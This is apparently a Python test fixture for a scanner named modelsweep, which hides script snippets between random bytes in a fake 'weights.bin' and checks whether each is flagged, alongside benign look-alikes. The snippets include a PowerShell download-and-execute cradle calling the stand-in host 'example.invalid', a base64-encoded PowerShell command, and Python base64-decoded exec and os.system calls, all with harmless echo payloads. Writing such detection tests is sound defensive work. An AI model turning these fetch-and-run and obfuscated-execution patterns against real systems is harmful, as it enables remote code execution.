"""Script payloads in binary files, and bytes or texts that only resemble them."""

from __future__ import annotations

import base64
import random

from modelsweep.core.report import Verdict
from tests.scanners.case import Case

NOISE = random.Random(2).randbytes(2500)
SHELL = b"#!/bin/sh\necho modelsweep-test\n"
POWERSHELL = b"powershell.exe -NoProfile -enc " + base64.b64encode("Write-Output modelsweep-test".encode("utf-16-le"))
CRADLE = b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/modelsweep-test')"
DECODED = b"import base64\nexec(base64.b64decode('" + base64.b64encode(b"print('modelsweep-test')") + b"'))\n"
INDIRECT = b"__import__('os').system('echo modelsweep-test')"


def hidden(script: bytes, verdict: Verdict = Verdict.REVIEW) -> Case:
    """Return the case of `script` between random bytes."""
    return Case(lambda: NOISE + script + NOISE, "weights.bin", verdict)


CASES = {
    "shell": hidden(SHELL),
    "powershell_encoded": hidden(POWERSHELL),
    "powershell_cradle": hidden(CRADLE),
    "python_decoded": hidden(DECODED),
    "python_indirect": hidden(INDIRECT),
    "python_import": hidden(b"import os;os.system('echo modelsweep-test')\n"),
    "benign_shebang_of_noise": hidden(b"#!/bin/sh\xff\xfe", Verdict.NOT_SCANNED),
    "benign_words": hidden(b"powershell iex import os exec eval __import__ #!/bin/", Verdict.NOT_SCANNED),
    "benign_script_file": Case(lambda: SHELL, "run.sh", Verdict.CLEAN, cut_is_clean=True),
}
